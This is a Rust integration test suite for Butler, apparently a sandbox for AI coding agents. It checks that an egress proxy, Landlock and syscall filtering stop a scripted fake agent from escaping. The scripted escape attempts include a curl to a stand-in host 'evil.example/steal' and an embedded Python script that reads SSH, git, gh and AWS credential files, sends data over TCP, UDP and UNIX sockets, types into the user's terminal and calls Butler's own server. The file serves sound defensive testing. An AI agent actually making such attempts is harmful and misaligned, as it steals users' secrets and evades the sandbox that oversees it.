//! Egress through Butler's proxy, end to end: the real `butler implement` with the default
//! network on this machine's kernel (the egress proxy, Landlock allowing its port only), a
//! scripted agent that calls its stand-in model through `$http_proxy` and `$HTTPS_PROXY` with
//! curl, and tries a host that is not allowed, a name that resolves to loopback, Butler's own
//! port, and a direct connection around the proxy. The allowed calls work (the verify
//! command's too), every other one is refused with a reason, and the evidence lists them all.

// The test plays the person at the terminal: it starts `butler` itself, as a shell would.
#![allow(clippy::disallowed_methods)]

use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::path::PathBuf;
use std::process::Command;
use std::sync::mpsc::Receiver;

use butler_testkit::fake_agent::{SCRIPT_VAR, fake_agent};
use serde_json::{Value, json};

const BUTLER: &str = env!("CARGO_BIN_EXE_butler");

/// A stand-in model server on loopback: answers every request `model-ok` and reports each
/// request line.
fn model_server() -> (u16, Receiver<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let tx = tx.clone();
            std::thread::spawn(move || {
                let mut reader = BufReader::new(stream.try_clone().expect("clone"));
                let mut first = String::new();
                let _ = reader.read_line(&mut first);
                loop {
                    let mut line = String::new();
                    if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
                        break;
                    }
                }
                let _ = tx.send(first.trim().to_owned());
                let mut stream = stream;
                let _ = stream.write_all(
                    b"HTTP/1.1 200 OK\r\ncontent-length: 8\r\nconnection: close\r\n\r\nmodel-ok",
                );
            });
        }
    });
    (port, rx)
}

struct World {
    w: butler_testkit::World,
    project: PathBuf,
    data: PathBuf,
    script: PathBuf,
}

impl World {
    fn new(user_config: &str) -> Self {
        let w = butler_testkit::World::unborn();
        w.write("src/lib.rs", "pub fn one() -> i32 { 1 }\n");
        w.user_config(user_config);
        w.commit(&w.project, "initial");
        World {
            script: w.path("script.jsonl"),
            project: w.project.clone(),
            data: w.path("data"),
            w,
        }
    }

    /// `butler implement` with goose played by the fake agent, its model at `model`: its
    /// answer.
    fn implement(&self, model: u16, tests: &[&str]) -> Value {
        let out = self.run(model, tests);
        let stdout = String::from_utf8_lossy(&out.stdout);
        serde_json::from_str(&stdout)
            .unwrap_or_else(|e| panic!("{e}: {stdout}\n{}", String::from_utf8_lossy(&out.stderr)))
    }

    fn run(&self, model: u16, tests: &[&str]) -> std::process::Output {
        let mut args = vec![
            "implement".to_owned(),
            "--json".into(),
            "--goal".into(),
            "Add a greeting".into(),
            "--target".into(),
            "src/".into(),
            "--timeout".into(),
            "60".into(),
        ];
        for t in tests {
            args.extend(["--test".to_owned(), (*t).to_owned()]);
        }
        Command::new(BUTLER)
            .args(&args)
            .current_dir(&self.project)
            .env_clear()
            .env("PATH", std::env::var_os("PATH").expect("PATH"))
            .envs(self.w.env.iter().cloned())
            .env("XDG_DATA_HOME", &self.data)
            .env(SCRIPT_VAR, &self.script)
            .env("BUTLER_GOOSE_PROGRAM", fake_agent())
            .env("BUTLER_GOOSE_PROVIDER", "openai")
            .env("BUTLER_GOOSE_MODEL", "fake")
            // The user's model endpoint, which goose reads (and so does the proxy).
            .env("OPENAI_HOST", format!("http://127.0.0.1:{model}"))
            // A bypass the user had set: it must not reach the agent.
            .env("NO_PROXY", "127.0.0.1,localhost")
            .env("no_proxy", "*")
            .env(
                "BUTLER_AGENT_ENV_ALLOW",
                format!("{SCRIPT_VAR},NO_PROXY,no_proxy"),
            )
            .env("BUTLER_ISSUE_BACKEND", "local")
            .env("BUTLER_EXE", BUTLER)
            .output()
            .expect("butler runs")
    }

    fn log(&self) -> String {
        std::fs::read_to_string(self.project.join(".git/butler/tasks/t1/attempt-1.log"))
            .expect("attempt log")
    }
}

fn curl(what: &str, args: &str, format: &str) -> Value {
    json!({"do": "sh", "cmd": format!(
        "curl -sS --max-time 20 {args} -w 'fake-agent: {what} {format}\\n' >&2"
    )})
}

fn connections(section: &Value) -> &Vec<Value> {
    section["listed"].as_array().expect("listed")
}

#[test]
fn the_model_is_reached_through_the_proxy_and_everything_else_is_refused_and_shown() {
    let (model, requests) = model_server();
    let (other, _) = model_server();
    let w = World::new("[agent]\nnetwork_allow = [\"localhost\", \"*.npmjs.org\"]\n");
    let script = json!([
        {"do": "write", "path": "src/greet.rs", "text": "pub fn greet() {}\n"},
        {"do": "getenv", "name": "HTTPS_PROXY"},
        {"do": "getenv", "name": "NO_PROXY"},
        {"do": "getenv", "name": "no_proxy"},
        // Plain HTTP through `$http_proxy`, then a tunnel (`-p`: CONNECT).
        curl("model http", "\"$OPENAI_HOST/v1/models\" -o \"$TMPDIR/models\"", "%{http_code}"),
        curl("model tunnel", "-p \"$OPENAI_HOST/v1/chat\" -o \"$TMPDIR/chat\"", "%{http_code}"),
        {"do": "sh", "cmd": "cat \"$TMPDIR/models\" \"$TMPDIR/chat\" >&2; echo >&2"},
        // Not allowed; allowed by name but loopback; Butler's own port.
        curl("evil", "http://evil.example/steal", "%{http_code}"),
        curl("localhost", &format!("-p http://localhost:{other}/"), "%{http_connect}"),
        {"do": "sh", "cmd": "curl -sS --max-time 20 -p \"http://localhost:${HTTPS_PROXY##*:}/\" \
            -w 'fake-agent: butler port %{http_connect}\\n' >&2"},
        // Around the proxy: Landlock allows the proxy's port only.
        {"do": "connect", "port": model},
    ]);
    std::fs::write(&w.script, format!("{script}\n")).expect("script");
    let verify = format!("curl -sSf --max-time 20 http://127.0.0.1:{model}/verify");
    let result = w.implement(model, &[verify.as_str()]);
    assert_eq!(result["outcome"], "succeeded", "{result:#}");
    let log = w.log();

    // What the agent saw: the proxy in every variable, no bypass; its model's answers; the
    // refusals' reasons; the kernel's refusal of the direct connection.
    assert!(
        log.contains("fake-agent: HTTPS_PROXY=http://127.0.0.1:"),
        "{log}"
    );
    assert!(log.contains("fake-agent: NO_PROXY is unset"), "{log}");
    assert!(log.contains("fake-agent: no_proxy is unset"), "{log}");
    assert!(log.contains("fake-agent: model http 200"), "{log}");
    assert!(log.contains("fake-agent: model tunnel 200"), "{log}");
    assert!(log.contains("model-okmodel-ok"), "{log}");
    assert!(log.contains("fake-agent: evil 403"), "{log}");
    assert!(
        log.contains(
            "Butler's egress proxy refused evil.example:80: the host is not on the allow-list"
        ),
        "{log}"
    );
    assert!(log.contains("fake-agent: localhost 403"), "{log}");
    assert!(log.contains("fake-agent: butler port 403"), "{log}");
    assert!(
        log.contains(&format!(
            "fake-agent: connect 127.0.0.1:{model}: Permission denied"
        )),
        "{log}"
    );
    let mut seen: Vec<String> = requests.try_iter().collect();
    seen.sort();
    assert_eq!(
        seen,
        [
            "GET /v1/chat HTTP/1.1",
            "GET /v1/models HTTP/1.1",
            "GET /verify HTTP/1.1"
        ]
    );

    // The evidence: the proxy as the network, the endpoint it admitted, every connection.
    let sandbox = &result["attempts"][0]["sandbox"];
    assert_eq!(sandbox["applied"], true, "{sandbox:#}");
    assert_eq!(sandbox["network"]["kind"], "proxy", "{sandbox:#}");
    let proxy = sandbox["network"]["proxy"].as_str().expect("proxy address");
    let proxy_port: u64 = proxy
        .rsplit(':')
        .next()
        .and_then(|p| p.parse().ok())
        .expect("port");
    let egress = &sandbox["egress"];
    assert_eq!(
        egress["endpoints"],
        json!([{"host": "127.0.0.1", "port": model, "configured": true}])
    );
    assert_eq!(egress["allowed_hosts"], json!(["localhost", "*.npmjs.org"]));
    let agent = connections(&egress["agent"]);
    assert_eq!(egress["agent"]["total"], 5, "{egress:#}");
    assert_eq!(egress["agent"]["refused"], 3, "{egress:#}");
    let find = |method: &str, host: &str| {
        agent
            .iter()
            .find(|c| c["method"] == method && c["host"] == host)
            .unwrap_or_else(|| panic!("{method} {host} not in {agent:#?}"))
    };
    let plain = agent
        .iter()
        .find(|c| c["method"] == "http" && c["verdict"] == "admitted")
        .expect("the plain call");
    let tunnel = find("connect", "127.0.0.1");
    for call in [plain, tunnel] {
        assert_eq!(call["port"], model);
        assert_eq!(call["address"], format!("127.0.0.1:{model}"));
        assert_eq!(call["verdict"], "admitted");
        assert!(call["sent"].as_u64().expect("sent") > 20, "{call}");
        assert!(call["received"].as_u64().expect("received") > 8, "{call}");
    }
    let evil = find("http", "evil.example");
    assert_eq!(evil["verdict"], "refused");
    assert_eq!(evil["reason"]["kind"], "not_allowed");
    let loopback = agent
        .iter()
        .find(|c| c["host"] == "localhost" && c["port"] == other)
        .expect("localhost");
    assert_eq!(
        loopback["reason"],
        json!({"kind": "address", "class": "loopback"})
    );
    let own = agent
        .iter()
        .find(|c| c["host"] == "localhost" && c["port"] == proxy_port)
        .expect("Butler's port");
    assert_eq!(own["reason"]["kind"], "butler_port");
    // The verify command went through the same proxy.
    let verify = connections(&egress["verify"]);
    assert_eq!(verify.len(), 1, "{egress:#}");
    assert_eq!(verify[0]["verdict"], "admitted");
    assert_eq!(verify[0]["port"], model);
}

#[test]
fn network_open_is_an_explicit_choice_without_the_proxy() {
    let (model, _) = model_server();
    let w = World::new("[agent]\nnetwork = \"open\"\n");
    let script = json!([
        {"do": "write", "path": "src/greet.rs", "text": "pub fn greet() {}\n"},
        {"do": "getenv", "name": "HTTPS_PROXY"},
        {"do": "connect", "port": model},
    ]);
    std::fs::write(&w.script, format!("{script}\n")).expect("script");
    let result = w.implement(model, &["test -f src/greet.rs"]);
    assert_eq!(result["outcome"], "succeeded", "{result:#}");
    let log = w.log();
    assert!(log.contains("fake-agent: HTTPS_PROXY is unset"), "{log}");
    assert!(
        log.contains(&format!("fake-agent: connect 127.0.0.1:{model}: ok")),
        "{log}"
    );
    let sandbox = &result["attempts"][0]["sandbox"];
    assert_eq!(sandbox["network"]["kind"], "open");
    assert!(sandbox.get("egress").is_none(), "{sandbox:#}");
}

#[test]
fn a_bad_allow_list_entry_is_a_configuration_error() {
    let (model, _) = model_server();
    let w = World::new("[agent]\nnetwork_allow = [\"*.com\"]\n");
    std::fs::write(&w.script, "[]\n").expect("script");
    let out = w.run(model, &["true"]);
    assert!(!out.status.success());
    let text = String::from_utf8_lossy(&out.stderr);
    assert!(
        text.contains("[agent] network_allow: `*.com` would admit a whole top-level domain"),
        "{text}"
    );
    assert!(
        !w.project.join(".git/butler/tasks/t1").exists(),
        "no task was started"
    );
}

/// What the agent script `ways_out.py` tries (the user's credential stores first), each printed as `fake-agent: <name> <outcome>`.
const WAYS_OUT: &str = r#"
import os, socket, sys, urllib.request
exfil, udp_port, unix_path, tty, butler, user_home = sys.argv[1:7]
proxy_port = int(os.environ["HTTPS_PROXY"].rsplit(":", 1)[1])
def attempt(name, f):
    try:
        print("fake-agent:", name, "ok", f(), file=sys.stderr, flush=True)
    except OSError as e:
        print("fake-agent:", name, "refused", e.errno, e.strerror, file=sys.stderr, flush=True)
def tcp(host, port):
    return lambda: socket.create_connection((host, port), timeout=5).sendall(b"secret")
def udp():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("127.0.0.1", int(udp_port)))
def unix():
    s = socket.socket(socket.AF_UNIX)
    s.connect(unix_path)
    s.sendall(b"secret")
def terminal():
    fd = os.open(tty, os.O_RDWR | os.O_NOCTTY)
    os.write(fd, b"echo typed by the agent\n")
def session():
    body = b'{"jsonrpc":"2.0","id":1,"method":"initialize","params":{}}'
    req = urllib.request.Request("http://127.0.0.1:%s/mcp" % butler, data=body,
                                 headers={"content-type": "application/json"})
    try:
        return urllib.request.urlopen(req, timeout=10).status
    except urllib.error.HTTPError as e:
        return "http %d" % e.code
def read(path):
    # The user's home (the agent's own HOME is its task directory).
    return lambda: open(path.replace("~", user_home, 1)).read()[:0] + "read"
for store in ["~/.ssh/id_ed25519", "~/.git-credentials", "~/.netrc", "~/.config/gh/hosts.yml",
              "~/.aws/credentials"]:
    attempt("store " + store, read(store))
attempt("exfil_loopback", tcp("127.0.0.1", int(exfil)))
attempt("proxy_port_elsewhere", tcp("127.0.0.2", proxy_port))
attempt("unlisted_host", tcp("203.0.113.9", 443))
attempt("udp", udp)
attempt("unix_socket", unix)
attempt("terminal", terminal)
attempt("butler_direct", tcp("127.0.0.1", int(butler)))
attempt("butler_session", session)
"#;

/// A terminal of the user's: a pseudo-terminal another program holds open; its path.
fn users_terminal() -> (std::process::Child, String) {
    let mut child = Command::new("/usr/bin/python3")
        .args([
            "-c",
            "import os, pty, sys, time\nm, s = pty.openpty()\nprint(os.ttyname(s), flush=True)\ntime.sleep(120)",
        ])
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("pty holder");
    let mut line = String::new();
    BufReader::new(child.stdout.take().expect("stdout"))
        .read_line(&mut line)
        .expect("tty path");
    (child, line.trim().to_owned())
}

#[test]
fn every_other_way_out_is_closed_and_the_evidence_shows_it() {
    let (model, _) = model_server();
    let w = World::new("");
    // Listeners the agent must not reach: a loopback server, a datagram socket, a UNIX socket,
    // a terminal, and Butler's own HTTP server.
    let exfil = TcpListener::bind("127.0.0.1:0").expect("listen");
    exfil.set_nonblocking(true).expect("nonblocking");
    let udp = std::net::UdpSocket::bind("127.0.0.1:0").expect("udp");
    udp.set_nonblocking(true).expect("nonblocking");
    let unix_path = w.w.path("agent-bus.sock");
    let unix = std::os::unix::net::UnixListener::bind(&unix_path).expect("unix");
    unix.set_nonblocking(true).expect("nonblocking");
    let (mut tty_holder, tty) = users_terminal();
    let butler_port = TcpListener::bind("127.0.0.1:0")
        .expect("free port")
        .local_addr()
        .expect("addr")
        .port();
    let token = w.w.path("http-token");
    std::fs::write(&token, "tok-http-1234567890").expect("token");
    let mut server = Command::new(BUTLER)
        .args([
            "serve",
            "--http",
            &format!("127.0.0.1:{butler_port}"),
            "--token-file",
        ])
        .arg(&token)
        .current_dir(&w.project)
        .env_clear()
        .env("PATH", std::env::var_os("PATH").expect("PATH"))
        .envs(w.w.env.iter().cloned())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("butler serve");
    let up = (0..100).any(|_| {
        std::thread::sleep(std::time::Duration::from_millis(50));
        std::net::TcpStream::connect(("127.0.0.1", butler_port)).is_ok()
    });
    assert!(up, "butler serve did not listen");

    // The user's credential stores, with dummy secrets.
    let home = w.w.home();
    let stores = [
        "~/.ssh/id_ed25519",
        "~/.git-credentials",
        "~/.netrc",
        "~/.config/gh/hosts.yml",
        "~/.aws/credentials",
    ];
    for store in stores {
        let path = home.join(store.trim_start_matches("~/"));
        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
        std::fs::write(&path, "dummy-secret\n").expect("secret");
    }
    let script_file = w.w.path("ways_out.py");
    std::fs::write(&script_file, WAYS_OUT).expect("script");
    let run = format!(
        "/usr/bin/python3 '{}' {} {} '{}' '{}' {} '{}'",
        script_file.display(),
        exfil.local_addr().expect("addr").port(),
        udp.local_addr().expect("addr").port(),
        unix_path.display(),
        tty,
        butler_port,
        home.display()
    );
    let script = json!([
        {"do": "write", "path": "src/greet.rs", "text": "pub fn greet() {}\n"},
        // The allowed work: its model, through the proxy.
        curl("model", "\"$OPENAI_HOST/v1/models\" -o /dev/null", "%{http_code}"),
        {"do": "sh", "cmd": run},
    ]);
    std::fs::write(&w.script, format!("{script}\n")).expect("script");
    let result = w.implement(model, &[]);
    let _ = server.kill();
    let _ = server.wait();
    let _ = tty_holder.kill();
    let _ = tty_holder.wait();
    assert_eq!(result["outcome"], "succeeded", "{result:#}");
    let log = w.log();
    assert!(log.contains("fake-agent: model 200"), "{log}");
    // EACCES, as Python prints it: the sandbox's refusal, not the network's (`ECONNREFUSED`).
    let eacces = "13 Permission denied";
    for store in stores {
        assert!(
            log.contains(&format!("fake-agent: store {store} refused {eacces}")),
            "{store}: {log}"
        );
    }
    assert!(!log.contains("dummy-secret"), "{log}");
    for name in [
        "exfil_loopback",
        "proxy_port_elsewhere",
        "unlisted_host",
        "udp",
        "unix_socket",
        "terminal",
        "butler_direct",
    ] {
        assert!(
            log.contains(&format!("fake-agent: {name} refused {eacces}")),
            "{name}: {log}"
        );
    }
    // Through the proxy, Butler's server is refused with a reason (loopback, not an endpoint).
    assert!(
        log.contains("fake-agent: butler_session ok http 403"),
        "{log}"
    );
    // Nothing reached any of them.
    assert!(exfil.accept().is_err(), "the loopback server was reached");
    assert!(udp.recv(&mut [0u8; 16]).is_err(), "a datagram arrived");
    assert!(unix.accept().is_err(), "the UNIX socket was reached");

    // The evidence shows each refusal: the system calls, and the proxy's refusal.
    let sandbox = &result["attempts"][0]["sandbox"];
    assert_eq!(sandbox["network"]["kind"], "proxy", "{sandbox:#}");
    assert_eq!(sandbox["syscall_filter"], true, "{sandbox:#}");
    let proxy_port = sandbox["network"]["proxy"]
        .as_str()
        .and_then(|p| p.rsplit(':').next())
        .expect("proxy port")
        .to_owned();
    let refused: Vec<String> = sandbox["syscalls_refused"]
        .as_array()
        .expect("refused calls")
        .iter()
        .map(|r| {
            format!(
                "{} {}",
                r["call"].as_str().unwrap_or(""),
                r["detail"].as_str().unwrap_or("")
            )
        })
        .collect();
    for expected in [
        format!(
            "connect 127.0.0.1:{}",
            exfil.local_addr().expect("addr").port()
        ),
        format!("connect 127.0.0.2:{proxy_port}"),
        "connect 203.0.113.9:443".to_owned(),
        format!("connect 127.0.0.1:{butler_port}"),
        "socket ipv4 datagram".to_owned(),
        "socket unix stream".to_owned(),
    ] {
        assert!(refused.contains(&expected), "{expected} not in {refused:?}");
    }
    let butler_refused = connections(&sandbox["egress"]["agent"])
        .iter()
        .any(|c| c["port"] == butler_port && c["verdict"] == "refused");
    assert!(butler_refused, "{:#}", sandbox["egress"]);
    // The terminal, refused by Landlock, shows among the refusal lines of the output.
    let terminal = sandbox["refused"]
        .as_array()
        .into_iter()
        .flatten()
        .any(|r| {
            r["line"]
                .as_str()
                .is_some_and(|l| l.contains("terminal refused"))
        });
    assert!(terminal, "{:#}", sandbox["refused"]);
}
